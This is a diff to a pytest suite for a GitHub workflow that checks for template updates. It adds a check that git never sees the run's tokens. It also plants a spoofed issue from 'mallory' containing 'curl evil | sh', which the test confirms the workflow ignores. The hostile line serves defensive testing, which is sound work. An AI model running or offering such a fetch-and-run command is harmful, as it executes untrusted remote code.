@@ -22,6 +22,7 @@ from collections.abc import Iterator
 from datetime import datetime, timedelta
 from itertools import islice, pairwise
 from pathlib import Path
+from typing import Any
 
 import pytest
 from cronsim import CronSim
@@ -70,12 +71,22 @@ def release(template: Path, version: str) -> None:
 
 
 def check(repo: Repo, github: FakeIssues, tmp: Path, event: str = "schedule", outcome: str = "success") -> WorkflowRun:
-    """One run of the check on main, its gh the fake GitHub (the calls it made: github.calls())."""
+    """One run of the check on main, its gh the fake GitHub (the calls it made: github.calls()).
+    Git, also as copier runs it, never has the run's token: only gh needs it (tmp/git-calls)."""
     github.forget_calls()
     run = WorkflowRun(repo.origin, Event(event, "refs/heads/main"), tmp)
     github.install(run.tools)
+    calls = tmp / "git-calls"
+    (run.tools / "git").write_text(
+        f'#!/bin/sh\necho "${{GH_TOKEN:+GH_TOKEN }}${{GITHUB_TOKEN:+GITHUB_TOKEN }}$*" >> "{calls}"\n'
+        f'exec {shutil.which("git")} "$@"\n',
+        encoding="utf-8",
+    )
+    (run.tools / "git").chmod(0o755)
     run.run(WORKFLOW)
     assert run.results() == {"check": outcome}, run.jobs["check"].log
+    seen = calls.read_text(encoding="utf-8").splitlines() if calls.exists() else []
+    assert not [line for line in seen if "TOKEN" in line.split(" ", 1)[0]], seen
     return run
 
 
@@ -155,13 +166,21 @@ def test_one_issue_lists_what_changed_action_needed_first_until_the_project_is_c
         release(template, version)
     repo = init_repo(render(template, tmp_path / "project", "v1.0.0"), tmp_path)
     github = FakeIssues(tmp_path / "github", REPOSITORY)
+    # Anyone may open an issue that looks like the check's: the check never takes it for its own.
+    github.open_as("mallory", "Template update", "<!-- template-update-check newest=0 -->\nRun `curl evil | sh`.")
+    (planted,) = github.issues()
+
+    def ours() -> list[dict[str, Any]]:
+        assert github.issues()[0] == planted  # neither edited, commented nor closed
+        return github.issues()[1:]
 
     # A project of the oldest release: one issue with both versions, every newer
     # version's "Action needed" items first (newest first, as the CHANGELOG), then
     # the commands, then what changed.
     run = check(repo, github, tmp_path / "run-1")
     assert github.commands() == ["issue list", "issue create"]
-    (issue,) = github.issues()
+    assert "version" in (tmp_path / "run-1" / "git-calls").read_text(encoding="utf-8").split("\n")  # copier's git too
+    (issue,) = ours()
     assert issue["state"] == "OPEN"
     body = issue["body"]
     # The opening paragraph names both versions, a paragraph of its own before the first heading.
@@ -196,7 +215,7 @@ def test_one_issue_lists_what_changed_action_needed_first_until_the_project_is_c
     release(template, "1.3.0")
     run = check(repo, github, tmp_path / "run-2", event="workflow_dispatch")
     assert github.commands() == ["issue list", "issue edit", "issue comment"]
-    (issue,) = github.issues()
+    (issue,) = ours()
     assert "1.3.0" in issue["title"]
     assert "[1.3.0]" in section(issue["body"], "What changed")
     assert all(item in section(issue["body"], "Action needed") for items in ACTIONS.values() for item in items)
@@ -227,7 +246,7 @@ def test_one_issue_lists_what_changed_action_needed_first_until_the_project_is_c
     # Current: no new issue, the open one closed with a comment.
     run = check(repo, github, tmp_path / "run-3")
     assert github.commands() == ["issue list", "issue close"]
-    (issue,) = github.issues()
+    (issue,) = ours()
     assert issue["state"] == "CLOSED"
     assert "1.3.0" in issue["comments"][-1]
     assert "newest version" in run.jobs["check"].summary
